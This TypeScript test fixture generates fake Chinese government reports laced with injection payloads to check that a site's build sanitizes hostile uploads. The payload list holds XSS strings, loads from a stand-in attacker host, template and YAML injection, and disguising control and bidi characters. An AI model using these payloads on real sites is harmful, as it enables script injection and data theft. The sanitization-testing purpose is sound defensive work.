/**
 * Hostile uploads, generated from a seed: report-like texts whose title, body, authority line and file
 * name carry what an attacker or a broken tool would put there — markup and script in every form a
 * browser or feed reader runs, links and images that would load from another site, characters XML
 * forbids, bidirectional overrides, YAML and Markdown that try to break out of their place. Every
 * payload carries the marker PWNED, so that a scan of the built site can tell a payload that became
 * active from our own code.
 */
import { prng } from '../../scripts/lib/shared/corpus-generator.ts';

export const MARKER = 'PWNED';

/** What must never become active (the scan looks for these as elements, attributes and URLs). */
export const PAYLOADS = [
  `<script>alert("${MARKER}")</script>`,
  `<img src=x onerror=alert('${MARKER}')>`,
  `<svg onload=alert('${MARKER}')></svg>`,
  `<iframe src="https://evil.example/${MARKER}"></iframe>`,
  `<object data="https://evil.example/${MARKER}.swf"></object>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/${MARKER}">`,
  `<a href="javascript:alert('${MARKER}')" onclick="alert('${MARKER}')">点此</a>`,
  `<style>body{background:url("https://evil.example/${MARKER}.png")}</style>`,
  `<base href="https://evil.example/${MARKER}/">`,
  `<form action="https://evil.example/${MARKER}"><input name=q></form>`,
  `[查看详情](javascript:alert('${MARKER}'))`,
  `![公章](https://evil.example/${MARKER}.png)`,
  `<https://evil.example/${MARKER}>`,
  `]]><![CDATA[<script>alert('${MARKER}')</script>`,
  `--></script><script>alert('${MARKER}')</script>`,
  `"'><script>alert('${MARKER}')</script>`,
  `{{${MARKER}}} \${${MARKER}} <%= ${MARKER} %>`,
  `---\ntitle: ${MARKER}\n---`,
  `&${MARKER} *${MARKER} !!js/function "alert('${MARKER}')"`,
];

/** Characters no reader can take (src/lib/text-hygiene.ts), and the bidi overrides that disguise text. */
const UNREADABLE = ['\u0000', '\u0001', '\u0008', '\u000b', '\u001b', '\u007f', '\u0085', '\ufffe', '\uffff', '\ufdd0'];
const DISGUISE = ['\u202e', '\u2066', '\u200b', '\ufeff'];

const PLACES = ['北京市东城区', '湖南省长沙市长沙县', '广东省深圳市南山区', '四川省成都市武侯区', '浙江省杭州市西湖区'];

export interface HostileUpload {
  path: string;
  bytes: Uint8Array;
}

/** count hostile uploads (plain text, saved web page and Markdown), the same bytes for the same seed. */
export function hostileUploads(seed: number, count: number): HostileUpload[] {
  const random = prng(seed);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const dirty = (text: string) => {
    const at = Math.floor(random() * (text.length + 1));
    return `${text.slice(0, at)}${pick(UNREADABLE)}${pick(DISGUISE)}${text.slice(at)}`;
  };
  const uploads: HostileUpload[] = [];
  for (let i = 0; i < count; i++) {
    const place = pick(PLACES);
    const year = 2019 + Math.floor(random() * 6);
    const title = dirty(`${place}人民政府关于${year}年度法治政府建设情况的报告${pick(PAYLOADS)}`);
    const body = [
      dirty(`${year}年，${place}坚持依法行政${pick(PAYLOADS)}，推进法治政府建设，各项工作取得新成效。`),
      `一、主要举措和成效${pick(PAYLOADS)}`,
      dirty(`（一）加强组织领导。${pick(PAYLOADS)}落实第一责任人职责，${pick(PAYLOADS)}完善制度建设。`),
      `二、存在的不足和原因`,
      dirty(`法治宣传教育的针对性还不够强。${pick(PAYLOADS)}`),
      `${place}人民政府${pick(PAYLOADS)}`,
      `${year + 1}年3月${1 + Math.floor(random() * 28)}日`,
    ];
    const kind = i % 3;
    const name = `恶意${String(i).padStart(3, '0')}${pick(['', '<b>', '"', "'", '&amp;', '%00', ' '])}`.replace(
      /[/\\]/g,
      '',
    );
    if (kind === 0) uploads.push({ path: `恶意/${name}.txt`, bytes: Buffer.from([title, ...body].join('\n')) });
    else if (kind === 1) {
      const html = `<!doctype html><html><head><title>${title}</title>${pick(PAYLOADS)}</head><body onload="alert('${MARKER}')"><h1>${title}</h1>${body.map((p) => `<p>${p}</p>`).join('')}</body></html>`;
      uploads.push({ path: `恶意/${name}.html`, bytes: Buffer.from(html) });
    } else uploads.push({ path: `恶意/${name}.md`, bytes: Buffer.from([`# ${title}`, '', ...body].join('\n\n')) });
  }
  return uploads;
}
